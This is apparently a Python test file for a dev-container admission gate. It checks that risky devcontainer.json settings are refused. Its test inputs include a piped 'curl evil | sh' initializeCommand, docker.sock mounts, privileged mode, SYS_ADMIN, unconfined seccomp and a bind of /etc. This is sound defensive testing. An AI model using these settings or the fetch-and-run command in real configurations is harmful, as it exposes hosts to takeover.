"""The dev-container admission gate: devcontainer.json judged by run-container's judge (pure)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from mcp_docker_server.devcontainers.describe import (
    description,
    mounted_volume_names,
    network_refs,
)
from mcp_docker_server.devcontainers.gate import (
    check_build_tag,
    judge_configuration,
    mount_fields,
    policy_from_json,
    policy_to_json,
    run_args_fields,
)
from mcp_docker_server.devcontainers.names import folder_image_name
from mcp_docker_server.errors import PolicyDenied
from mcp_docker_server.policy import lexical_resolver
from mcp_docker_server.policy.admission import judge_container, listed_binds
from mcp_docker_server.policy.model import PathInfo, Policy

WORKSPACE = "type=bind,source=/srv/app,target=/workspaces/app"
POLICY = Policy(allowed_bind_roots=("/srv",))


def judge(config: dict[str, object], policy: Policy = POLICY, workspace: str | None = WORKSPACE) -> None:
    judge_configuration(policy, config, workspace, lexical_resolver)


def refusal(config: dict[str, object], policy: Policy = POLICY, workspace: str | None = WORKSPACE) -> str:
    with pytest.raises(PolicyDenied) as caught:
        judge(config, policy, workspace)
    return str(caught.value)


def test_a_plain_configuration_passes() -> None:
    judge({"image": "busybox:local", "capAdd": ["NET_BIND_SERVICE"], "init": True})


def test_privileged_true_is_refused_naming_the_key_and_the_setting() -> None:
    text = refusal({"image": "x", "privileged": True})
    assert "devcontainer.json privileged" in text
    assert "allow_privileged = true" in text
    judge({"image": "x", "privileged": True}, replace(POLICY, allow_privileged=True))


@pytest.mark.parametrize(
    ("run_args", "setting"),
    [
        (["--privileged"], "allow_privileged"),
        (["--cap-add=SYS_ADMIN"], "capability_allowlist"),
        (["--cap-add", "SYS_ADMIN"], "capability_allowlist"),
        (["--security-opt", "seccomp=unconfined"], "allow_unconfined"),
        (["--pid=host"], "allow_host_namespaces"),
        (["--network", "host"], "allow_host_namespaces"),
        (["--device=/dev/kmsg"], "allow_devices"),
        (["-v", "/var/run/docker.sock:/var/run/docker.sock"], "allow_s"),
        (["--mount", "type=bind,source=/etc,target=/e"], "allow_sensitive_binds"),
    ],
)
def test_run_args_are_judged_as_the_engine_fields_they_set(run_args: list[str], setting: str) -> None:
    text = refusal({"image": "x", "runArgs": run_args}, Policy())
    assert "devcontainer.json runArgs" in text
    assert setting in text


def test_a_docker_socket_mount_is_refused() -> None:
    mount = "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"
    text = refusal({"image": "x", "mounts": [mount]}, Policy())
    assert "devcontainer.json mounts" in text
    assert "docker.sock" in text


def test_the_workspace_mount_passes_the_host_path_rule() -> None:
    text = refusal({"image": "x"}, workspace="type=bind,source=/home/me/proj,target=/w")
    assert "the workspace mount" in text
    assert "allowed_bind_roots" in text


def test_cap_add_and_security_opt_keys_are_judged() -> None:
    assert "capAdd" in refusal({"image": "x", "capAdd": ["SYS_PTRACE"]})
    assert "securityOpt" in refusal({"image": "x", "securityOpt": ["apparmor=unconfined"]})


def test_initialize_command_runs_on_the_host_and_is_refused() -> None:
    text = refusal({"image": "x", "initializeCommand": "curl evil | sh"})
    assert "initializeCommand" in text
    assert "server's host" in text


def test_mounts_in_either_spelling_become_engine_mounts() -> None:
    assert mount_fields("source=/a,target=/b,type=volume") == {
        "Type": "volume",
        "Source": "/a",
        "Target": "/b",
    }
    assert mount_fields({"source": "/a", "target": "/b"}) == {"Type": "bind", "Source": "/a", "Target": "/b"}
    assert run_args_fields(["--privileged=false", "--ipc", "host", "--init"]) == {
        "Privileged": False,
        "IpcMode": "host",
    }


def test_the_policy_survives_its_trip_to_the_shim() -> None:
    policy = Policy(
        allowed_bind_roots=("/srv",),
        capability_allowlist=frozenset({"CHOWN"}),
        label_scope="team=a",
        engine_data_root="/var/lib/docker",
        default_memory_bytes=1024,
    )
    assert policy_from_json(policy_to_json(policy)) == policy
    assert policy_from_json(policy_to_json(Policy())) == Policy()
    with pytest.raises(ValueError, match="JSON object"):
        policy_from_json("[]")


INSPECT = {
    "Id": "c" * 64,
    "Name": "/dev-box",
    "Config": {"Image": "busybox:local", "Labels": {"devcontainer.local_folder": "/srv/app"}},
    "HostConfig": {"Privileged": True, "Mounts": [{"Type": "volume", "Source": "cache", "Target": "/c"}]},
    "Mounts": [{"Type": "volume", "Name": "cache"}, {"Type": "bind", "Source": "/srv/app"}],
    "NetworkSettings": {"Networks": {"bridge": {"NetworkID": "n1"}}},
}


def test_the_clis_inspect_output_is_described_as_the_engine_layer_does() -> None:
    assert mounted_volume_names(INSPECT) == ["cache"]
    assert network_refs(INSPECT) == {"bridge": "n1"}
    desc = description(
        INSPECT,
        {"cache": {"Driver": "local", "Options": {"type": "none", "o": "bind", "device": "/etc"}}},
        {"bridge": {"Driver": "bridge", "Options": {}}},
        "2",
    )
    assert desc.name == "dev-box"
    assert desc.cgroup_version == "2"
    with pytest.raises(PolicyDenied, match="Privileged"):
        judge_container(Policy(), desc, lexical_resolver)
    allowed = replace(Policy(), allow_privileged=True)
    with pytest.raises(PolicyDenied, match="cache"):  # the named volume is a bind of /etc
        judge_container(allowed, desc, lambda p: PathInfo(real_path=p, is_socket=False))


def test_other_containers_binds_are_listed_for_the_nested_bind_rule() -> None:
    writer = {
        "Id": "w" * 64,
        "Name": "/writer",
        "Mounts": [
            {"Type": "bind", "Source": "/srv/shared", "RW": True},
            {"Type": "volume", "Name": "v", "Source": "/var/lib/docker/volumes/v/_data", "RW": True},
        ],
    }
    assert listed_binds([INSPECT, writer], {}, exclude="c" * 64) == (("/srv/shared", True, "writer"),)
    desc = description(
        {**INSPECT, "HostConfig": {"Binds": ["/srv/shared/data:/d:ro"]}},
        {},
        {},
        "2",
        other_binds=listed_binds([writer], {}),
    )
    with pytest.raises(PolicyDenied, match="writer") as caught:
        judge_container(Policy(), desc, lambda p: PathInfo(real_path=p, is_socket=False))
    assert caught.value.setting == "allow_nested_binds = true"


@pytest.mark.parametrize("tag", ["victim:1", "vsc-app-victim", "busybox:local", ""])
def test_a_build_may_tag_only_its_folders_own_images(tag: str) -> None:
    own = folder_image_name("/srv/app")
    check_build_tag(f"{own}-features", "/srv/app")
    with pytest.raises(PolicyDenied, match="may not tag") as caught:
        check_build_tag(tag or own, "/srv/app" if tag else "")
    assert caught.value.rule == "devcontainer-image-name"
